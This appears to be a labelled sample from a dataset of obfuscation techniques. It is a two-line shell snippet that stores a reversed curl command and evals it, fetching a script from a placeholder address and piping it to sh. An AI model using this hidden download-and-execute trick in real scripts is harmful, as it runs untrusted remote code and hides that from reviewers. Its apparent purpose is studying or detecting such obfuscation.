# class: embedded, reversed text; style: obfuscated
x='hs | x/9.311.0.302//:ptth s- lruc'
eval "$(echo "$x" | rev)"
